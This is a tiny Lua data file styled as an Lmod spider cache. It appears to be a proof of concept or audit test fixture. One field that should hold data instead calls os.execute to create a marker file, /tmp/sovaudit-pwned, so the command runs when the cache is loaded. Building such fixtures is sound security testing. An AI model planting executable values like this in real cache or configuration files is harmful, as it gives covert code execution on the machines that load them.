timestampFn = {
  false,
}
spiderT = {
  ["/opt/mf/Core"] = {
    gcc = {
      fileT = os.execute("touch /tmp/sovaudit-pwned"),
    },
  },
}
